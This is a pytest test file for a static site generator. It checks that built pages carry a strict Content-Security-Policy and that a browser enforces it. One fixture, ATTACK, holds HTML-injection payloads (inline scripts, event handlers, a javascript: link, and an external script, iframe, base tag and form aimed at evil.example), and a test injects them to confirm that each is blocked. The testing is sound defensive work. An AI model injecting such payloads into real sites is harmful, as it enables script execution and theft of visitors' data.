"""The Content-Security-Policy: every page satisfies it, and a browser keeps to it."""

import os
import re
import signal
import subprocess
import sys
import threading

import projects
import pytest
from html_pages import Page
from playwright.sync_api import expect
from test_site_browser import KINDS

from dateline import output, policy
from dateline.problems import Problems
from dateline.project import Project

SMALL = """
-- content/site.yaml --
title: Floods
list_limit: 20
-- content/actors.yaml --
abbey: {name: The Abbey of Egmond, kind: organisation, aliases: [convent]}
-- content/places.yaml --
hull: {name: Hull, kind: town, lat: 53.74, lon: -0.33}
lynn: {name: Lynn, kind: town, lat: 52.75, lon: 0.4}
-- content/sources.yaml --
annals: {title: Annals of Egmond, kind: book}
-- content/events.yaml --
- {id: flood, date: 1287-12-14, title: The flood, text: "Many drowned [@annals].", places: [hull]}
- {id: tale, date: "1288", title: A tale, status: retracted, reason: A dream.}
"""
LARGE = SMALL + "".join(
    f"- {{id: n-{n}, date: '{1300 + n}', title: Flood {n}, places: [lynn], actors: [abbey]}}\n"
    for n in range(60)
)

LARGE_KINDS = (
    *("", "timeline/", "timeline/1300/", "map/", "actors/abbey/", "places/lynn/", "404.html"),
    *("actors/convent/", "events/tale/", "events/flood/"),
)


def made(folder, text, base_url=None):
    """Build a small project; return the folder of its site."""
    project = Project(projects.write(folder, text), folder / "site", base_url=base_url)
    output.write(projects.build(project), project.output)
    return project.output


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    """The built site of this project."""
    folder = tmp_path_factory.mktemp("site")
    output.write(projects.build(Project(projects.ROOT, folder)), folder)
    return folder


@pytest.fixture(scope="module")
def large(tmp_path_factory):
    """The site of a timeline that is too long for one page, with what moved and what went."""
    return made(tmp_path_factory.mktemp("large"), LARGE, "https://floods.example/")


@pytest.fixture
def watched(page):
    """A page that notes, as `page.refused`, whatever the policy refuses, and tells of it."""
    page.refused = []
    page.expose_function("tell", lambda text: page.refused.append(text))  # noqa: PLW0108
    page.add_init_script(
        "addEventListener('securitypolicyviolation',"
        " e => tell(`${e.effectiveDirective} ${e.blockedURI}`))"
    )
    page.on(
        "console",
        lambda line: (
            page.refused.append(line.text) if "Content Security Policy" in line.text else None
        ),
    )
    return page


def sent(site):
    """The headers that `_headers` tells hosts to send with every file."""
    lines = (site / "_headers").read_text().splitlines()[1:]
    return dict(line.strip().split(": ", 1) for line in lines)


def test_the_hash_is_of_what_stands_between_the_tags():
    """The example of the specification; what is written twice is named once."""
    script = "<script>alert('Hello, world.');</script>"
    (only,) = policy.hashes(f"<p>{script}{script}<style>p{{}}</style>").scripts

    assert only == "'sha256-qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng='"
    assert policy.hashes("<p>script</p>") == policy.Hashes()


def test_a_policy_begins_with_nothing_and_has_nothing_unsafe():
    """What is not named is refused; `file:` is for pages that are opened from a folder."""
    allowed = policy.Hashes(("'sha256-a'",), ("'sha256-b'",))

    assert policy.text(allowed) == (
        "default-src 'none'; script-src 'self' 'sha256-a'; style-src 'self' 'sha256-b';"
        " img-src 'self'; font-src 'self'; connect-src 'self'; base-uri 'none'; form-action 'none'"
    )
    assert "style-src 'self' file: 'sha256-b';" in policy.text(allowed, file=True)
    assert "script-src 'self' 'sha256-a';" in policy.text(allowed, file=True)


@pytest.mark.parametrize("which", ["site", "large"])
def test_every_page_says_the_policy_first_and_keeps_it(which, request):
    """Before anything that it is about; nothing stands inline but what it has the hash of."""
    folder = request.getfixturevalue(which)
    header = sent(folder)["Content-Security-Policy"]
    said = set()
    for path in folder.rglob("*.html"):
        text = path.read_text("utf-8")
        page = Page(text)
        meta = page.all("meta")[1]
        order = [one for one in page.elements if one.tag in ("meta", "script", "style", "link")]
        assert order[1] is meta, path
        assert meta.attributes["http-equiv"] == "Content-Security-Policy", path
        said.add(meta.attributes["content"])
        inline = re.findall(r"<script>(.*?)</script>", text, re.DOTALL)
        assert len(inline) == 1, path
        (mark,) = policy.hashes(f"<script>{inline[0]}</script>").scripts
        assert mark in meta.attributes["content"], path
        for one in page.elements:
            assert one.tag != "style", path
            assert "style" not in one.attributes, (path, one)
            assert not any(name.startswith("on") for name in one.attributes), (path, one)

    (only,) = said
    assert "unsafe" not in only
    assert header == only.replace(" file:", "") + "; frame-ancestors 'none'"


@pytest.mark.parametrize(
    ("base_url", "top"), [(None, ""), ("https://a.example/", ""), ("https://a.example/b/", "/b")]
)
def test_a_host_is_told_what_to_send(tmp_path, base_url, top):
    """In the form of Netlify and Cloudflare Pages, whose lines hold 2,000 characters at most."""
    lines = (made(tmp_path, SMALL, base_url) / "_headers").read_text().splitlines()

    assert lines[0] == f"{top}/*"
    assert [line.partition(":")[0] for line in lines[1:]] == [
        "  Content-Security-Policy",
        "  Referrer-Policy",
        "  X-Content-Type-Options",
    ]
    assert lines[-1] == "  X-Content-Type-Options: nosniff"
    assert max(map(len, lines)) < 1000


def test_a_template_of_a_project_may_have_another_script(tmp_path, watched, serve_folder):
    """In parts/theme.html: the policy then allows that one, and the page runs it."""
    own = SMALL + "-- templates/parts/theme.html --\n<script>window.ran = 'é'</script>\n"
    watched.goto(serve_folder(made(tmp_path, own)))

    assert watched.evaluate("window.ran") == "é"
    assert watched.refused == []


def test_that_template_knows_nothing_of_the_page(tmp_path):
    """So nothing of the content can be in a script; it is a fault with its line."""
    own = SMALL + "-- templates/parts/theme.html --\n\n<script>'{{ page.title }}'</script>\n"
    with pytest.raises(Problems) as caught:
        made(tmp_path, own)

    assert "templates/parts/theme.html:2:1: 'page' is undefined" in str(caught.value)


@pytest.mark.parametrize("headers", [False, True], ids=["in the page", "sent too"])
def test_no_kind_of_page_has_anything_refused(watched, site, large, serve_folder, headers):
    """Of this site, and of one with long lists, earlier addresses and a tombstone."""
    kinds = {site: [*KINDS.values(), "corrections/"], large: LARGE_KINDS}
    for folder, paths in kinds.items():
        address = serve_folder(folder, sent(folder) if headers else {})
        for path in paths:
            watched.goto(f"{address}/{path}")
            watched.wait_for_load_state("load")  # of where it leads on to
            assert watched.refused == [], path


def test_everything_a_reader_can_do_works_under_it(watched, site, serve_folder):
    """Filter, map, slider, colours, citations and copying, with the headers sent as well."""
    watched.context.grant_permissions(["clipboard-read", "clipboard-write"])
    address = serve_folder(site, sent(site))
    watched.goto(f"{address}/?phase=fall-of-kidal")
    expect(watched.locator("timeline-filter output")).to_contain_text(" of ")
    link = watched.locator("#phase_fall-of-kidal copy-link a").first
    link.focus()
    watched.keyboard.press("Enter")
    expect(watched.get_by_text("Address copied")).to_be_visible()
    watched.get_by_label("Colours").select_option("dark")
    expect(watched.locator("html")).to_have_attribute("data-theme", "dark")
    watched.reload()
    expect(watched.locator("html")).to_have_attribute("data-theme", "dark")
    assert watched.evaluate("document.adoptedStyleSheets.length") == 1

    watched.goto(f"{address}/map/")
    before = watched.locator("timeline-map svg").first.get_attribute("viewBox")
    watched.get_by_role("button", name="Zoom in").click()
    assert watched.locator("timeline-map svg").first.get_attribute("viewBox") != before
    watched.get_by_role("slider").press("Home")
    expect(watched.locator("time-slider")).to_contain_text("2011")

    watched.goto(f"{address}/events/army-enters-kidal/")
    watched.locator("main a[href^='#source-']").first.hover()
    expect(watched.get_by_role("tooltip")).to_be_visible()

    assert watched.refused == []


def test_the_filter_of_a_long_timeline_may_read_its_data(watched, large, serve_folder):
    """From the site itself, and from nowhere else."""
    address = serve_folder(large, sent(large))
    watched.goto(f"{address}/?q=flood+7")
    expect(watched.locator("[data-found] li").first).to_be_visible()
    assert watched.refused == []

    outcome = "fetch('http://localhost:9/').then(() => 'asked', () => 'refused')"
    assert watched.evaluate(outcome) == "refused"
    assert any("connect-src" in one for one in watched.refused)


ATTACK = """
<script>window.ran = 1</script><img src="x" onerror="window.ran = 1">
<img src="https://evil.example/x.png"><script src="https://evil.example/x.js"></script>
<style>body { color: red }</style><p style="color: red">x</p>
<iframe src="https://evil.example/"></iframe><base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<form action="https://evil.example/"><button id="send">x</button></form>
<a id="go" href="javascript:window.ran = 1">x</a><object data="https://evil.example/"></object>
"""


def test_what_got_into_a_page_in_spite_of_everything_does_not_run(watched, tmp_path, serve_folder):
    """No script, handler, style, frame, form or base; and nothing is asked of another host."""
    site = made(tmp_path, SMALL)
    home = site / "index.html"
    home.write_text(home.read_text("utf-8").replace("</h1>", f"</h1>{ATTACK}"), "utf-8")
    outside = {}
    address = serve_folder(site)
    watched.on("requestfinished", lambda one: outside.update({one.url: "answered"}))
    watched.on("requestfailed", lambda one: outside.update({one.url: one.failure}))
    watched.goto(address)
    watched.locator("#go").click()
    watched.locator("#send").evaluate("button => button.form.requestSubmit()")
    watched.evaluate("document.createElement('b').setAttribute('onclick', 'window.ran = 1')")

    assert watched.evaluate("window.ran") is None
    assert watched.evaluate("document.baseURI") == f"{address}/"
    assert watched.evaluate("getComputedStyle(document.body).color") != "rgb(255, 0, 0)"
    outside = {url: how for url, how in outside.items() if not url.startswith(address)}
    assert set(outside.values()) == {"csp"}
    kinds = {one.partition(" ")[0] for one in watched.refused}
    assert kinds >= {
        "script-src-elem",
        "script-src-attr",
        "style-src-elem",
        "style-src-attr",
        "img-src",
        "frame-src",
        "form-action",
        "base-uri",
        "object-src",
    }


def test_from_a_folder_a_page_looks_as_from_a_host(watched, site, serve_folder):
    """The style sheet and the inline script count there too."""
    looks = """() => ["body", "h1", ".site-header", "main a"].map(
        one => { const s = getComputedStyle(document.querySelector(one));
                 return [s.color, s.fontFamily, s.display, s.fontSize, s.backgroundColor] })"""
    watched.goto(f"{serve_folder(site)}/events/army-enters-kidal/")
    served = watched.evaluate(looks)
    watched.goto(f"{site.as_uri()}/events/army-enters-kidal/index.html")

    assert watched.evaluate(looks) == served
    assert watched.evaluate("document.adoptedStyleSheets.length") == 1
    assert watched.refused == []


@pytest.fixture
def preview(tmp_path):
    """The preview of the small site, in a process of its own; its address."""
    project = projects.with_recipe(projects.write(tmp_path, SMALL))
    serve = subprocess.Popen(
        [sys.executable, project / "build.py", "serve", "--port", "0"],
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        cwd=project,
        env=os.environ | {"PYTHONPATH": str(projects.ROOT)},
    )
    yield serve.stdout.readline().split()[2]
    drain = threading.Thread(target=serve.stdout.read)
    drain.start()
    serve.send_signal(signal.SIGINT)
    drain.join()
    with serve:
        assert serve.wait() == 0


def test_the_preview_reloads_pages_that_have_it(watched, preview, tmp_path):
    """Its script and its websocket are of the page's own origin; those not found reload too."""
    watched.goto(f"{preview}no/such/page/")
    expect(watched.get_by_role("heading", level=1)).to_have_text("Page not found")
    assert watched.evaluate("document.baseURI") == preview
    watched.goto(f"{preview}events/flood/")
    expect(watched).to_have_title(re.compile("The flood"), timeout=20_000)
    events = tmp_path / "content/events.yaml"
    events.write_text(events.read_text().replace("The flood", "The storm"))

    expect(watched).to_have_title(re.compile("The storm"), timeout=20_000)
    assert watched.refused == []
